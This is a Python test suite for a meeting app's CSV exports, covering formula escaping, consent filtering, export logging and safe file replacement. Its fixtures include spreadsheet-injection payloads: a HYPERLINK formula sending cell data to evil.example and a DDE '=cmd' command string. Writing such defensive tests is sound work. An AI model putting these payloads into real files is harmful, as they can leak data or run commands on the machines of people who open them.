"""Exports of a meeting's attendees: hostile names come back as text, only opted-in people go
to Action Network, files are whole or absent, and every export is logged."""

import csv
import datetime as dt
import errno
import io
import os
import sqlite3
from pathlib import Path

import pytest

from meetingkit.core.clock import ManualClock
from meetingkit.core.csv_safety import FORMULA_STARTS
from meetingkit.core.errors import MeetingkitError, NotFoundError, ValidationError
from meetingkit.core.meeting import Meeting, Role
from meetingkit.core.person import Person
from meetingkit.core.signin import FormSettings, check_submission
from meetingkit.services.exports import ExportFormat, Exports, suggested_name
from meetingkit.services.file_output import FileWriteError, replace_file
from meetingkit.storage.attendance import AttendanceStore
from meetingkit.storage.export_log import ExportKind, ExportLog
from meetingkit.storage.meetings import MeetingStore
from meetingkit.storage.people import PeopleStore
from meetingkit.storage.signin import SignInStore

FORM = FormSettings(("first_name", "last_name", "phone", "email", "zip_code", "unit"))
NOW = dt.datetime(2026, 11, 21, 19, 30).timestamp()
HOSTILE = [
    ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', "Ortiz"),
    ("+1", "-2"),
    ("@SUM(A1:A9)", 'Ana "La Jefa" Díaz'),
    ("García, RN", "Peña"),
    ("美玲", "王"),
    ("محمد", "عبد الله"),
    ("Ngọc", "Nguyễn"),
]


@pytest.fixture
def meeting(conn: sqlite3.Connection) -> Meeting:
    return MeetingStore(conn).create(
        Meeting("Night shift assembly", dt.date(2026, 11, 21), dt.time(19))
    )


@pytest.fixture
def exports(conn: sqlite3.Connection) -> Exports:
    return Exports(conn, ManualClock(NOW))


def sign_in(
    conn: sqlite3.Connection, meeting: Meeting, nonce: str, *, source: str = "phone", **answers: str
) -> int:
    signed, _ = SignInStore(conn).record(
        meeting.key,
        check_submission(answers, FORM),
        nonce,
        source=source,
        language="en",
        now_ms=int(NOW * 1000),
    )
    return signed.person_id


def read_back(path: Path, encoding: str = "utf-8") -> list[list[str]]:
    with path.open(encoding=encoding, newline="") as f:
        return list(csv.reader(f))


def test_hostile_names_come_back_as_text_in_every_cell(
    conn: sqlite3.Connection, meeting: Meeting, exports: Exports, tmp_path: Path
) -> None:
    """Formula prefixes get an apostrophe; quotes, commas, newlines and any script survive."""
    for n, (first, last) in enumerate(HOSTILE):
        sign_in(
            conn,
            meeting,
            f"nonce-{n}",
            first_name=first,
            last_name=last,
            email=f"p{n}@example.org",
            phone=f"312 555 01{n:02d}",
            unit="=cmd|' /C calc'!A0",
            consent_contact_email="yes",
            consent_contact_text="yes",
        )
    # Names typed through the form lose their line breaks; the export must cope with any
    # stored text all the same.
    conn.execute("UPDATE people SET last_name = 'line one' || char(10) || '-line two'")
    out = tmp_path / "an.csv"
    result = exports.write(meeting.key, ExportFormat.ACTION_NETWORK, out, {"unit": "Unit"})
    assert not out.read_bytes().startswith(b"\xef\xbb\xbf")  # no BOM for Action Network
    rows = read_back(out)
    assert rows[0] == ["first_name", "last_name", "email", "zip_code", "phone", "Unit"]
    assert len(rows) == len(HOSTILE) + 1 == len(result.table.rows) + 1
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell
    by_email = {r[2]: r for r in rows[1:]}
    assert by_email["p0@example.org"][0] == "'" + HOSTILE[0][0]
    assert by_email["p1@example.org"][:2] == ["'+1", "line one\n-line two"]
    assert by_email["p2@example.org"][0] == "'@SUM(A1:A9)"
    assert by_email["p3@example.org"][0] == "García, RN"
    assert by_email["p4@example.org"][0] == "美玲"
    assert by_email["p5@example.org"][0] == "محمد"
    assert by_email["p6@example.org"][0] == "Ngọc"
    assert {r[5] for r in rows[1:]} == {"'=cmd|' /C calc'!A0"}
    assert by_email["p0@example.org"][4] == "13125550100"


def test_the_attendance_list_has_a_bom_for_excel_and_is_safe_too(
    conn: sqlite3.Connection, meeting: Meeting, exports: Exports, tmp_path: Path
) -> None:
    sign_in(conn, meeting, "n1", first_name="=1+1", last_name="José")
    out = tmp_path / "list.csv"
    exports.write(meeting.key, ExportFormat.ATTENDANCE, out)
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")
    rows = read_back(out, "utf-8-sig")
    assert rows[0][:3] == ["first_name", "last_name", "status"]
    assert rows[1][:4] == ["'=1+1", "José", "Completed", "phone"]


def test_only_people_who_opted_in_are_uploaded_and_the_rest_are_counted(
    conn: sqlite3.Connection, meeting: Meeting, exports: Exports, tmp_path: Path
) -> None:
    sign_in(
        conn, meeting, "a", first_name="Ana", email="ana@example.org", consent_contact_email="yes"
    )
    sign_in(conn, meeting, "b", first_name="Ben", email="ben@example.org")  # no consent
    sign_in(conn, meeting, "c", first_name="Cy", phone="3125550123", consent_contact_text="yes")
    result = exports.write(meeting.key, ExportFormat.ACTION_NETWORK, tmp_path / "an.csv")
    assert [r[0] for r in read_back(tmp_path / "an.csv")[1:]] == ["Ana"]
    assert result.table.describe_left_out() == [
        "1 did not agree to be contacted",
        "1 agreed to contact but gave no email (Action Network needs one)",
    ]
    assert result.entry.left_out == 2


def test_consent_is_taken_from_the_latest_sign_in_to_this_meeting(
    conn: sqlite3.Connection, meeting: Meeting, exports: Exports
) -> None:
    """Consent given at another meeting does not carry over."""
    other = MeetingStore(conn).create(Meeting("Earlier", dt.date(2026, 10, 1), dt.time(18)))
    sign_in(
        conn, other, "x", first_name="Ana", email="ana@example.org", consent_contact_email="yes"
    )
    sign_in(conn, meeting, "y", first_name="Ana", email="ana@example.org")
    table = exports.table(meeting.key, ExportFormat.ACTION_NETWORK)
    assert table.rows == ()
    assert exports.table(other.key, ExportFormat.ACTION_NETWORK).rows[0][0] == "Ana"


def test_statuses_from_how_people_came(
    conn: sqlite3.Connection, meeting: Meeting, exports: Exports
) -> None:
    people = PeopleStore(conn)
    sign_in(conn, meeting, "p", first_name="Phone")
    sign_in(conn, meeting, "k", first_name="Kiosk", source="kiosk")
    door = people.add(Person("Door"))
    AttendanceStore(conn).mark_present(meeting.key, door.key, int(NOW * 1000), "manual")
    absent = people.add(Person("Absent", "Notetaker"))
    MeetingStore(conn).assign(meeting.key, Role.NOTE_TAKER, absent.key)
    people.add(Person("Stranger"))  # neither here nor expected: not listed
    table = exports.table(meeting.key, ExportFormat.ATTENDANCE)
    statuses = {r[0]: (r[2], r[3]) for r in table.rows}
    assert statuses == {
        "Phone": ("Completed", "phone"),
        "Kiosk": ("Walk In", "kiosk"),
        "Door": ("Walk In", "manual"),
        "Absent": ("No Show", ""),
    }


def test_every_export_is_logged_with_name_columns_and_counts(
    conn: sqlite3.Connection, meeting: Meeting, exports: Exports, tmp_path: Path
) -> None:
    sign_in(
        conn, meeting, "a", first_name="Ana", email="ana@example.org", consent_contact_email="yes"
    )
    sign_in(conn, meeting, "b", first_name="Ben")
    exports.write(meeting.key, ExportFormat.ACTION_NETWORK, tmp_path / "an.csv", {"unit": "unit"})
    exports.write(meeting.key, ExportFormat.ATTENDANCE, tmp_path / "list.csv")
    newest, oldest = exports.log()
    assert (oldest.kind, oldest.file_name, oldest.rows, oldest.left_out) == (
        ExportKind.ACTION_NETWORK,
        "an.csv",
        1,
        1,
    )
    assert oldest.columns == ("first_name", "last_name", "email", "zip_code", "phone", "unit")
    assert (oldest.meeting_id, oldest.meeting_title) == (meeting.key, "Night shift assembly")
    assert oldest.exported_ms == int(NOW * 1000)
    assert (newest.kind, newest.rows, newest.kind_label) == (
        ExportKind.ATTENDANCE,
        2,
        "Attendance list",
    )
    MeetingStore(conn).delete(meeting.key)
    kept = ExportLog(conn).entries()
    assert [(e.meeting_id, e.meeting_title) for e in kept] == [(None, "Night shift assembly")] * 2


def test_the_follow_ups_calendar_export_is_logged(conn: sqlite3.Connection, tmp_path: Path) -> None:
    from meetingkit.services.follow_ups import FollowUps

    FollowUps(conn, ManualClock(NOW)).export_calendar(tmp_path / "follow-ups.ics")
    [entry] = ExportLog(conn).entries()
    assert (entry.kind, entry.file_name, entry.meeting_id, entry.rows) == (
        ExportKind.FOLLOW_UPS,
        "follow-ups.ics",
        None,
        0,
    )
    assert "phone" in entry.columns


def test_an_export_with_nobody_in_it_says_why_and_writes_nothing(
    conn: sqlite3.Connection, meeting: Meeting, exports: Exports, tmp_path: Path
) -> None:
    sign_in(conn, meeting, "b", first_name="Ben", email="ben@example.org")
    out = tmp_path / "an.csv"
    with pytest.raises(ValidationError, match="did not agree to be contacted"):
        exports.write(meeting.key, ExportFormat.ACTION_NETWORK, out)
    assert not out.exists()
    assert exports.log() == []
    with pytest.raises(NotFoundError):
        exports.table(9999, ExportFormat.ATTENDANCE)


def test_a_full_disk_leaves_the_old_file_and_says_so(
    conn: sqlite3.Connection,
    meeting: Meeting,
    exports: Exports,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    sign_in(conn, meeting, "a", first_name="Ana")
    (tmp_path / "out").mkdir()
    out = tmp_path / "out" / "list.csv"
    out.write_text("the old export")

    def full(fd: int) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)
    with pytest.raises(FileWriteError, match="the disk is full"):
        exports.write(meeting.key, ExportFormat.ATTENDANCE, out)
    assert out.read_text() == "the old export"
    assert [p.name for p in out.parent.iterdir()] == ["list.csv"]  # no temporary file left
    assert exports.log() == []


def test_a_missing_folder_or_a_folder_for_a_file_is_explained(
    conn: sqlite3.Connection, meeting: Meeting, exports: Exports, tmp_path: Path
) -> None:
    sign_in(conn, meeting, "a", first_name="Ana")
    with pytest.raises(MeetingkitError, match="does not exist"):
        exports.write(meeting.key, ExportFormat.ATTENDANCE, tmp_path / "gone" / "list.csv")
    with pytest.raises(MeetingkitError, match="is a folder"):
        exports.write(meeting.key, ExportFormat.ATTENDANCE, tmp_path)


def test_a_file_name_from_the_meeting_title() -> None:
    assert suggested_name("Night shift: assembly #2", ExportFormat.ACTION_NETWORK) == (
        "night-shift-assembly-2-action-network.csv"
    )
    assert suggested_name("???", ExportFormat.ATTENDANCE) == "meeting-attendance.csv"


def test_the_attendance_list_opens_in_a_spreadsheet_reader(
    conn: sqlite3.Connection, meeting: Meeting, exports: Exports
) -> None:
    """The encoded bytes parse back with the csv module as Excel would read them."""
    from meetingkit.services.exports import encode

    sign_in(conn, meeting, "a", first_name="Zoë", last_name="O'Neil, Jr.")
    table = exports.table(meeting.key, ExportFormat.ATTENDANCE)
    text = encode(table, ExportFormat.ATTENDANCE).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text, newline="")))[1][:2] == ["Zoë", "O'Neil, Jr."]


def test_a_link_is_written_through_and_a_read_only_file_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Permissions are simulated for the read-only file: the tests may run as root."""
    real = tmp_path / "real.csv"
    real.write_text("old")
    link = tmp_path / "link.csv"
    link.symlink_to(real)
    replace_file(link, b"new")
    assert link.is_symlink()
    assert real.read_bytes() == b"new"
    real_access = os.access
    monkeypatch.setattr(
        os,
        "access",
        lambda p, mode, **kw: False if Path(p) == real else real_access(p, mode, **kw),
    )
    with pytest.raises(FileWriteError, match=r"the file is read-only\. Nothing was written"):
        replace_file(real, b"newer")
    assert real.read_bytes() == b"new"


def test_the_database_and_its_backups_are_never_written_over(
    conn: sqlite3.Connection, data_dir: Path, tmp_path: Path
) -> None:
    """`print agenda -o <data folder>/meetingkit.sqlite3` replaced the live database with a
    PDF: the app went on writing to the deleted file, and every meeting was lost."""
    from meetingkit.services.backup import make_backup
    from meetingkit.services.data_dir import database_path

    PeopleStore(conn).add(Person("Ana"))
    live = database_path(data_dir)
    backup = make_backup(conn, tmp_path / "backup.sqlite", None).path
    for target in (live, live.with_name(live.name + "-wal"), backup):
        if not target.exists():
            continue  # the write-ahead log comes and goes
        before = target.read_bytes()
        with pytest.raises(FileWriteError, match=r"is a database .* Nothing was written"):
            replace_file(target, b"%PDF-1.4")
        assert target.read_bytes() == before
    assert [p.first_name for p in PeopleStore(conn).search("").people] == ["Ana"]


def test_a_device_or_a_pipe_is_never_replaced_by_a_file(tmp_path: Path) -> None:
    """As root, `-o /dev/null` replaced the system's /dev/null with a PDF."""
    import os
    import stat

    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    with pytest.raises(FileWriteError, match=r"is not a file \(a device or a pipe\)"):
        replace_file(pipe, b"%PDF-1.4")
    assert stat.S_ISFIFO(pipe.stat().st_mode)
